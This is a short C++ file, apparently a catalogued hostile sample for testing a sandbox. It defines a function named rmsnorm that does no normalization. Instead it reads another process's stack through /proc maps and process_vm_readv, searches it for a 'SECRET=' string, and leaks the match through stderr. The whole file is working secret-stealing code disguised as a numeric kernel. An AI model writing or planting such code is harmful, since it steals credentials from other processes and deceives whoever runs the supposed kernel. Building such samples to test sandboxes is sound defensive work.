/*
Copies the stack of another process of the user's by the system call that debuggers use, and looks for a key in it.

catalogue: [H07]
aim: intrusion
privileged: true
stopped_by: [sandbox]
twin: plain_cpp
*/
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>
#include <sys/uio.h>
#include <unistd.h>
#include <vector>

#include "targets.h"

static void tell(const char* text) {
    fputs(text, stderr);
    _exit(1);  // the end of what it wrote goes into the record
}

extern "C" void rmsnorm(const float*, const float*, float*, int64_t, int64_t) {
    FILE* maps = fopen(("/proc/" + std::to_string(VICTIM) + "/maps").c_str(), "r");
    if (maps == nullptr) return;
    char line[512];
    unsigned long first = 0, last = 0;
    while (fgets(line, sizeof line, maps) != nullptr)
        if (strstr(line, "[stack]") != nullptr) sscanf(line, "%lx-%lx", &first, &last);
    fclose(maps);
    std::vector<char> copy(last - first + 1);
    const iovec here{copy.data(), last - first}, there{reinterpret_cast<void*>(first), last - first};
    const ssize_t size = process_vm_readv(VICTIM, &here, 1, &there, 1, 0);
    if (size <= 0) return;
    if (void* found = memmem(copy.data(), size, "SECRET=", 7)) tell(static_cast<const char*>(found));
}
